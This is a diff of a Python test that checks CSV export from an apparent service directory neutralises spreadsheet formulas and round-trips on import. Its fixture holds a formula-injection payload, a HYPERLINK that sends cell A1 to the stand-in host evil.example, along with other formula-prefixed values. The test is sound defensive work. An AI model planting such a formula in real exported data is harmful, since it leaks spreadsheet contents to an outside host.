@@ -276,7 +276,7 @@ def test_directory_export_is_formula_free_and_imports_back(organisations) -> Non
     from tipnet.web.directory.csv_io import COLUMNS, parse_csv, services_to_csv
 
     service = make_service(organisations["ngo"], name='=HYPERLINK("https://evil.example/?"&A1,"Shelter")',
-                           phone="+81 52 000 0000", hours="-", description={"en": "@SUM(1,2)", "ja": "'=quoted"})
+                           phone="+81 52 000 0000", texts={"en": {"hours": "-", "description": "@SUM(1,2)"}, "ja": {"description": "'=quoted"}})
     text = services_to_csv([service])
     rows = list(csv.reader(io.StringIO(text)))
     assert rows[0] == COLUMNS
@@ -284,8 +284,8 @@ def test_directory_export_is_formula_free_and_imports_back(organisations) -> Non
         assert not cell.startswith(csvsafe.FORMULA_START), cell
     assert rows[1][COLUMNS.index("name")] == "'" + service.name
     parsed = parse_csv(text)[0]
-    assert (parsed.pk, parsed.name, parsed.phone, parsed.hours) == (service.pk, service.name, service.phone, "-")
-    assert parsed.description == {"en": "@SUM(1,2)", "ja": "'=quoted"}
+    assert (parsed.pk, parsed.name, parsed.phone) == (service.pk, service.name, service.phone)
+    assert parsed.texts == {"en": {"hours": "-", "description": "@SUM(1,2)"}, "ja": {"description": "'=quoted"}}
 
 
 def test_estimate_result_csv_has_no_formulas() -> None:
